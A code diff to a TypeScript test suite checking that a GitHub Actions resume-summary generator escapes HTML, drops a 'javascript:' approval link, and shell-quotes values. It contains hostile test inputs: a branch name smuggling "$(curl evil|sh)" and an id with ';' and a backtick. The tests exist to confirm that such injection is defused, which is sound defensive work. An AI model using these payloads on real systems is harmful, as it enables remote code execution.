@@ -47,8 +47,8 @@ describe('summaryMarkdown of a parked job', () => {
 
   it('says how to resume by hand, with the exact command, and escapes the relay reason', () => {
     const markdown = summaryMarkdown(report, parked({ answer: { job: '*', resume: 'manual', reason: '<b>no</b> GitHub App | ok' }, resume: { repository: 'octo/app', workflow: '.github/workflows/deploy.yml', ref: 'refs/tags/v1' } }));
-    expect(markdown).toContain('Resumes by hand (&lt;b&gt;no&lt;/b&gt; GitHub App \\| ok): once every gate above is final, run');
-    expect(markdown).toContain('```\ngh workflow run deploy.yml --ref v1 -f hookgate-resume=octo/app/42\n```\n\nor re-run this run.');
+    expect(markdown).toContain('Resumes by hand (&lt;b&gt;no&lt;/b&gt; GitHub App \\| ok): once every gate above is final,');
+    expect(markdown).toContain('run\n\n```sh\ngh workflow run deploy.yml --ref v1 -f hookgate-resume=octo/app/42\n```\n\nor re-run this run.');
   });
 
   it('links no approval URL that is not plain http(s), and quotes an id the shell would split', () => {
@@ -56,6 +56,15 @@ describe('summaryMarkdown of a parked job', () => {
     odd.waits.gates[0] = { ...odd.waits.gates[0]!, approvalUrl: 'javascript:alert(1)' };
     const markdown = summaryMarkdown(report, odd);
     expect(markdown).not.toContain('javascript:');
-    expect(markdown).toContain("gh workflow run deploy.yml --ref main -f hookgate-resume='a;b'c'");
+    expect(markdown).toContain("gh workflow run deploy.yml --ref main -f 'hookgate-resume=a;b`c'");
+  });
+
+  it('quotes a branch the shell would run, and offers only a re-run for a ref that cannot be dispatched', () => {
+    const manual = { job: '*', resume: 'manual' as const, reason: null };
+    const evil = summaryMarkdown(report, parked({ answer: manual, resume: { repository: 'octo/app', workflow: '.github/workflows/deploy.yml', ref: "refs/heads/x$(curl evil|sh)'y" } }));
+    expect(evil).toContain(`gh workflow run deploy.yml --ref 'x$(curl evil|sh)'\\''y' -f hookgate-resume=octo/app/42`);
+    const pull = summaryMarkdown(report, parked({ answer: manual, resume: { repository: 'octo/app', workflow: '.github/workflows/deploy.yml', ref: 'refs/pull/7/merge' } }));
+    expect(pull).not.toContain('gh workflow run');
+    expect(pull).toContain('re-run this run.');
   });
 });
